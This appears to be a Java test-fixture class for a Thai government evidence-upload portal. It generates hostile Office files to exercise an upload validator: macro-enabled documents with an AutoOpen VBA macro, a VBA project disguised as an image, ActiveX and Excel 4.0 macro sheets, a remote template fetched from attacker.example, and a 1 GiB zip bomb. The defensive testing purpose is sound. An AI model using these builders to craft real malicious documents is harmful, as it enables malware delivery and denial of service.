package th.ita.portal.evidence;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbookType;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Real Word, Excel and PowerPoint files made with Apache POI, and the hostile variants of them an
 * uploader could send: macro-enabled packages with a VBA project, ActiveX controls, Excel 4.0 macro
 * sheets, templates fetched from elsewhere, and ZIPs that are damaged or inflate to far more than
 * they weigh.
 */
final class OfficeFiles {

	static final String DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

	static final String DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml";

	static final String XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

	static final String VBA = "application/vnd.ms-office.vbaProject";

	static final String VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";

	private OfficeFiles() {
	}

	/** A Word document with a Thai paragraph, as Word or LibreOffice would save it. */
	static byte[] docx() {
		try (XWPFDocument document = new XWPFDocument()) {
			document.createParagraph().createRun().setText("คำสั่งแต่งตั้งคณะทำงาน ITA");
			return write(document::write);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** An Excel workbook with one Thai sheet. */
	static byte[] xlsx() {
		return workbook(XSSFWorkbookType.XLSX);
	}

	static byte[] pptx() {
		try (XMLSlideShow slides = new XMLSlideShow()) {
			slides.createSlide();
			return write(slides::write);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A macro-enabled Word document (what Word saves as .docm): its main part says so, and it carries word/vbaProject.bin. */
	static byte[] docm() {
		return change(docx(), pkg -> {
			pkg.replaceContentType(DOCX_MAIN, DOCM_MAIN);
			addVbaProject(pkg, "/word/document.xml", "/word/vbaProject.bin", VBA);
		});
	}

	/** A macro-enabled workbook (.xlsm) with its VBA project. */
	static byte[] xlsm() {
		return change(workbook(XSSFWorkbookType.XLSM),
				pkg -> addVbaProject(pkg, "/xl/workbook.xml", "/xl/vbaProject.bin", VBA));
	}

	/**
	 * A workbook whose main part claims to be a plain one, carrying a VBA project under another name
	 * and content type: only the relationship tells what it is.
	 */
	static byte[] xlsxWithHiddenMacroPart() {
		return change(xlsx(), pkg -> addVbaProject(pkg, "/xl/workbook.xml", "/xl/media/image1.bin",
				"application/octet-stream"));
	}

	/** A plain workbook's content types, with a VBA project part beside it (not named in any relationship). */
	static byte[] xlsxWithVbaProjectPart() {
		return change(xlsx(), pkg -> {
			PackagePart vba = pkg.createPart(PackagingURIHelper.createPartName("/xl/vbaProject.bin"), VBA);
			writePart(vba, vbaProject());
		});
	}

	/** A Word document with an ActiveX control (word/activeX/activeX1.xml and its binary). */
	static byte[] docxWithActiveX() {
		return change(docx(), pkg -> {
			PackagePart document = pkg.getPart(PackagingURIHelper.createPartName("/word/document.xml"));
			PackagePart control = pkg.createPart(PackagingURIHelper.createPartName("/word/activeX/activeX1.xml"),
					"application/vnd.ms-office.activeX+xml");
			writePart(control, ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
					+ "<ax:ocx ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\" ax:persistence=\"persistStorage\""
					+ " r:id=\"rId1\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\""
					+ " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>")
				.getBytes(StandardCharsets.UTF_8));
			PackagePart binary = pkg.createPart(PackagingURIHelper.createPartName("/word/activeX/activeX1.bin"),
					"application/vnd.ms-office.activeX");
			writePart(binary, vbaProject());
			control.addRelationship(binary.getPartName(), TargetMode.INTERNAL,
					"http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary");
			document.addRelationship(control.getPartName(), TargetMode.INTERNAL,
					"http://schemas.openxmlformats.org/officeDocument/2006/relationships/control");
		});
	}

	/** A workbook with an Excel 4.0 macro sheet (xl/macrosheets/sheet1.xml): macros without VBA. */
	static byte[] xlsxWithMacroSheet() {
		return change(xlsx(), pkg -> {
			PackagePart workbook = pkg.getPart(PackagingURIHelper.createPartName("/xl/workbook.xml"));
			PackagePart sheet = pkg.createPart(PackagingURIHelper.createPartName("/xl/macrosheets/sheet1.xml"),
					"application/vnd.ms-excel.macrosheet+xml");
			writePart(sheet, ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet"
					+ " xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData/></xm:macrosheet>")
				.getBytes(StandardCharsets.UTF_8));
			workbook.addRelationship(sheet.getPartName(), TargetMode.INTERNAL,
					"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet");
		});
	}

	/** A Word document that asks Word to fetch its template, macros and all, from another server. */
	static byte[] docxWithRemoteTemplate() {
		return change(docx(), pkg -> {
			PackagePart settings = pkg.getPart(PackagingURIHelper.createPartName("/word/settings.xml"));
			if (settings == null) {
				PackagePart document = pkg.getPart(PackagingURIHelper.createPartName("/word/document.xml"));
				settings = pkg.createPart(PackagingURIHelper.createPartName("/word/settings.xml"),
						"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml");
				writePart(settings, ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:settings"
						+ " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>")
					.getBytes(StandardCharsets.UTF_8));
				document.addRelationship(settings.getPartName(), TargetMode.INTERNAL,
						"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings");
			}
			settings.addExternalRelationship("http://attacker.example/template.dotm",
					"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate");
		});
	}

	private static byte[] zipBomb;

	/** A real Word document with one part that inflates from about 1 MB to 1 GiB (made once: it takes seconds). */
	static synchronized byte[] docxWithZipBomb() {
		if (zipBomb == null) {
			zipBomb = makeZipBomb();
		}
		return zipBomb;
	}

	private static byte[] makeZipBomb() {
		Map<String, byte[]> parts = entries(docx());
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (Map.Entry<String, byte[]> part : parts.entrySet()) {
				zip.putNextEntry(new ZipEntry(part.getKey()));
				zip.write(part.getValue());
				zip.closeEntry();
			}
			zip.putNextEntry(new ZipEntry("word/media/image1.png"));
			byte[] zeros = new byte[1 << 20];
			for (int i = 0; i < 1024; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/** A real Word document cut short: its ZIP directory is missing. */
	static byte[] truncatedDocx() {
		byte[] whole = docx();
		byte[] cut = new byte[whole.length / 2];
		System.arraycopy(whole, 0, cut, 0, cut.length);
		return cut;
	}

	/** A real Word document whose compressed data was overwritten, its ZIP directory intact. */
	static byte[] corruptedDocx() {
		byte[] bytes = docx().clone();
		int end = bytes.length - 22;
		while (end > 4 && !(bytes[end] == 0x50 && bytes[end + 1] == 0x4b && bytes[end + 2] == 5 && bytes[end + 3] == 6)) {
			end--;
		}
		int directory = (bytes[end + 16] & 0xff) | (bytes[end + 17] & 0xff) << 8 | (bytes[end + 18] & 0xff) << 16;
		for (int i = 200; i < directory - 50; i += 7) {
			bytes[i] = (byte) (bytes[i] ^ 0x5a);
		}
		return bytes;
	}

	/** The parts of a ZIP, by name, in order. */
	static Map<String, byte[]> entries(byte[] zipBytes) {
		Map<String, byte[]> parts = new LinkedHashMap<>();
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(zipBytes))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				parts.put(entry.getName(), zip.readAllBytes());
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return parts;
	}

	private static byte[] workbook(XSSFWorkbookType type) {
		try (XSSFWorkbook workbook = new XSSFWorkbook(type)) {
			workbook.createSheet("งบประมาณ").createRow(0).createCell(0).setCellValue("รายจ่ายประจำปี");
			return write(workbook::write);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static void addVbaProject(OPCPackage pkg, String from, String name, String contentType) throws Exception {
		PackagePart main = pkg.getPart(PackagingURIHelper.createPartName(from));
		PackagePart vba = pkg.createPart(PackagingURIHelper.createPartName(name), contentType);
		writePart(vba, vbaProject());
		main.addRelationship(vba.getPartName(), TargetMode.INTERNAL, VBA_RELATIONSHIP);
	}

	/** An OLE2 compound file laid out like a VBA project: a VBA storage with its dir stream, and PROJECT. */
	static byte[] vbaProject() {
		try (POIFSFileSystem fs = new POIFSFileSystem()) {
			DirectoryEntry vba = fs.getRoot().createDirectory("VBA");
			vba.createDocument("dir", new ByteArrayInputStream(new byte[] { 1, 0x19, 0, 0, 0, 1 }));
			vba.createDocument("_VBA_PROJECT", new ByteArrayInputStream(new byte[] { (byte) 0xcc, 0x61, -1, -1, 0 }));
			vba.createDocument("Module1", new ByteArrayInputStream(
					"Sub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n".getBytes(StandardCharsets.US_ASCII)));
			fs.getRoot().createDocument("PROJECT", new ByteArrayInputStream(
					"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\n".getBytes(StandardCharsets.US_ASCII)));
			return write(fs::writeFilesystem);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static void writePart(PackagePart part, byte[] content) throws IOException {
		try (OutputStream out = part.getOutputStream()) {
			out.write(content);
		}
	}

	private static byte[] change(byte[] original, PackageChange change) {
		try (OPCPackage pkg = OPCPackage.open(new ByteArrayInputStream(original))) {
			change.apply(pkg);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			pkg.save(out);
			return out.toByteArray();
		}
		catch (Exception ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static byte[] write(Writer writer) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		writer.write(out);
		return out.toByteArray();
	}

	@FunctionalInterface
	private interface PackageChange {

		void apply(OPCPackage pkg) throws Exception;

	}

	@FunctionalInterface
	private interface Writer {

		void write(OutputStream out) throws IOException;

	}

}
